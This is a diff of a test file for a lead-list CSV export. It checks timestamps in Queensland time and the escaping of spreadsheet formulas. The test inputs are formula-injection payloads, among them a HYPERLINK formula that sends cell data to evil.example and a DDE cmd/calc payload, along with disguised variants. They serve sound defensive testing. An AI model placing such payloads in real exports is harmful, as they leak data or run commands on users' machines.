@@ -31,19 +31,35 @@ const lead: FullLead = {
 test("starts with the byte order mark and the header row", () => {
 	expect(csvStart.charCodeAt(0)).toBe(0xfeff);
 	expect(parseCsv(csvStart.slice(1))).toEqual([
-		...[
-			["Lead", "Received (Brisbane)", "Status", "Replied (Brisbane)", "Business", "Contact", "Email", "Website", "Package"].concat([
-				...["Keywords", "Preferred start", "Source", "Delivery", "Spam", "Earlier lead"],
-			]),
-		],
+		["Lead", "Received (Brisbane)", "Status", "Replied (Brisbane)", "Business", "Contact", "Email", "Website", "Package"].concat([
+			"Keywords",
+			"Preferred start",
+			"Source",
+			"Delivery",
+			"Spam",
+			"Earlier lead",
+		]),
 	]);
 });
 
 test("writes every field, with times in Queensland", () => {
 	expect(parseCsv(renderCsvRow(lead))).toEqual([
 		[
-			...["7", "2026-11-15 00:04:05", "Won", "2026-11-15 10:00:00", 'The "Reef" Café', "Nguyễn O'Brien", "a@b.example"],
-			...["https://reef.example/a,b", "", "coffee\r\nbreakfast; tea", "2026-12-01", "Hire us", "Sent", "no", ""],
+			"7",
+			"2026-11-15 00:04:05",
+			"Won",
+			"2026-11-15 10:00:00",
+			'The "Reef" Café',
+			"Nguyễn O'Brien",
+			"a@b.example",
+			"https://reef.example/a,b",
+			"",
+			"coffee\r\nbreakfast; tea",
+			"2026-12-01",
+			"Hire us",
+			"Sent",
+			"no",
+			"",
 		],
 	]);
 	expect(renderCsvRow(lead).endsWith("\r\n")).toBe(true);
@@ -68,7 +84,9 @@ test.each(["UTC", "America/New_York", "Pacific/Apia"])(
 		// Midnight in Brisbane only: otherwise the zone of this process was not changed and the test proves nothing.
 		expect(new Date(received).getHours()).not.toBe(0);
 		expect(parseCsv(renderCsvRow({ ...lead, createdAt: received }))[0]?.slice(1, 4)).toEqual([
-			...["2026-11-15 00:04:05", "Won", "2026-11-15 10:00:00"],
+			"2026-11-15 00:04:05",
+			"Won",
+			"2026-11-15 10:00:00",
 		]);
 		expect(csvFileName(now)).toBe("leads-2026-12-01.csv");
 		expect(formatMoment(received).replace(/\s/g, " ")).toBe("15 Nov 2026, 12:04 am");
@@ -80,26 +98,68 @@ test.each(["UTC", "America/New_York", "Pacific/Apia"])(
 );
 
 test.each([
-	...["=1+1", "+61 7 3000 0000", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\u0000x"],
-	...['=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "@home Cafe", "-"],
-	...["＝1+1", "＋1", "－1", "＠x"],
+	"=1+1",
+	"+61 7 3000 0000",
+	"-2+3",
+	"@SUM(A1)",
+	"\tx",
+	"\rx",
+	"\nx",
+	"\u0000x",
+	'=HYPERLINK("https://evil.example?"&A1,"Click")',
+	"=cmd|' /C calc'!A0",
+	"@home Cafe",
+	"-",
+	"＝1+1",
+	"＋1",
+	"－1",
+	"＠x",
 ])("puts an apostrophe before the formula %j", (text) => {
 	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: text, keywords: text }));
 	expect([row?.[4], row?.[9]]).toEqual([`'${text}`, `'${text}`]);
 });
 
 test.each([
-	...["Joe;~=cmd|' /C calc'!A0", "Joe; ~=1", "Joe,~-5%", "Joe\t~@SUM(A1)", "Joe|~+1", "Joe:~=1", "Joe\r\n~=1", "Joe\u2028~=1"],
-	...['Joe;"~=1', 'Joe;" "~=1', "Joe;\u200b~=1", "Joe;\ufeff~＝1", "Joe ~=1", "Joe ~=", "Joe;~=1;~=2"],
-	...[" ~=1+1", "\u00a0~=1+1", '"~=1+1"', ' "~+1', "\u200b~=1+1", "\ufeff~=1+1", "\u202e~=1+1"],
+	"Joe;~=cmd|' /C calc'!A0",
+	"Joe; ~=1",
+	"Joe,~-5%",
+	"Joe\t~@SUM(A1)",
+	"Joe|~+1",
+	"Joe:~=1",
+	"Joe\r\n~=1",
+	"Joe\u2028~=1",
+	'Joe;"~=1',
+	'Joe;" "~=1',
+	"Joe;\u200b~=1",
+	"Joe;\ufeff~＝1",
+	"Joe ~=1",
+	"Joe ~=",
+	"Joe;~=1;~=2",
+	" ~=1+1",
+	"\u00a0~=1+1",
+	'"~=1+1"',
+	' "~+1',
+	"\u200b~=1+1",
+	"\ufeff~=1+1",
+	"\u202e~=1+1",
 ])("neutralises a formula wherever a spreadsheet could start a cell: %j", (marked) => {
 	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: marked.replaceAll("~", "") }));
 	expect(row?.[4]).toBe(marked.replaceAll("~", "'"));
 });
 
 test.each([
-	...["Reef Café", "a=b", "1-2-3 Plumbing", "O'Brien", "'quoted", "50% off", "https://a.example/?a=-1", ""],
-	...["Reef Café - Brisbane", "salt & pepper; fish, chips", "https://social.example/@reef", "50 - 60 covers"],
+	"Reef Café",
+	"a=b",
+	"1-2-3 Plumbing",
+	"O'Brien",
+	"'quoted",
+	"50% off",
+	"https://a.example/?a=-1",
+	"",
+	"Reef Café - Brisbane",
+	"salt & pepper; fish, chips",
+	"https://social.example/@reef",
+	"50 - 60 covers",
 ])("leaves the harmless text %j unchanged", (text) => {
 	expect(parseCsv(renderCsvRow({ ...lead, businessName: text }))[0]?.[4]).toBe(text);
 });
